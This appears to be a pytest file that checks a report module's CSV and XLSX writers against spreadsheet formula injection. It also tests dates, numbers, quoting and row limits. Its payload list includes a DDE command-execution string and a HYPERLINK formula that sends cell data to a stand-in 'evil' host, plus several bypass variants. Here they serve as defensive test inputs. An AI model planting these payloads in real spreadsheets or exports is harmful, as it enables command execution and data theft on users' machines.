"""A long list as a file: nothing that it says can run, and numbers and days are what they are."""

import csv
import io
from datetime import date
from decimal import Decimal
from zipfile import ZipFile

import openpyxl
import pytest

from informes.sortida import fulls
from informes.sortida.fulls import Full, MassaFilesError, escriu_csv, escriu_xlsx

DOLENTS = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil?"&A1)', "+1+cmd", "-2+3+cmd", "@SUM()", "|x",
    " =1", "\t=1", "\r=1", "\ufeff=1", "\u200b=1", "\u00a0=1", "＝1", "％", "\x00=1",
]  # fmt: skip


def full(files, titols=("Dia", "Què")) -> Full:
    return Full("Prova", (("Què és", "=1"),), list(titols), iter(files))


def en_csv(files) -> list[list[str]]:
    sortida = io.BytesIO()
    escriu_csv(full(files), sortida)
    return list(csv.reader(io.StringIO(sortida.getvalue().decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("dolent", DOLENTS)
def test_cap_text_no_s_executa(dolent):
    """X01: in a CSV it is prefixed; in a workbook there is not a single formula."""
    cella = en_csv([[None, dolent]])[1][1]
    assert cella == dolent or cella[0] == "'"
    assert cella[0] not in "=+-@|%\t\r"
    sortida = io.BytesIO()
    escriu_xlsx(full([[None, dolent]], titols=("Dia", dolent)), sortida)
    with ZipFile(sortida) as llibre:
        fulls_del_llibre = [nom for nom in llibre.namelist() if "worksheets/" in nom]
        assert fulls_del_llibre
        assert not any(b"<f>" in llibre.read(nom) for nom in fulls_del_llibre)


def test_els_nombres_i_els_dies_son_el_que_son():
    dies, nombre = date(2025, 3, 1), Decimal("12.5")
    assert en_csv([[dies, -5], [dies, nombre]])[1:] == [
        ["2025-03-01", "-5"],
        ["2025-03-01", "12.5"],
    ]
    sortida = io.BytesIO()
    escriu_xlsx(full([[dies, -5], [dies, nombre], [None, True]]), sortida)
    pagina = openpyxl.load_workbook(sortida)["Registres"]
    assert pagina["A2"].is_date
    assert [pagina[f"B{n}"].value for n in (2, 3, 4)] == [-5, 12.5, "True"]
    assert pagina["A4"].value is None


def test_una_cella_amb_comes_cometes_i_linies_torna_sencera():
    estrany = 'a;b,"c"\nd\r\ne'
    assert en_csv([[estrany, "x"]])[1] == [estrany, "x"]


def test_diu_quantes_files_hi_ha():
    for escriu in (escriu_csv, escriu_xlsx):
        assert escriu(full([["a", 1]] * 7), io.BytesIO()) == 7
        assert escriu(full([]), io.BytesIO()) == 0


def test_el_que_no_cap_en_un_full_es_diu(monkeypatch):
    monkeypatch.setattr(fulls, "MES_FILES", 3)
    with pytest.raises(MassaFilesError):
        escriu_xlsx(full([["a", 1]] * 4), io.BytesIO())
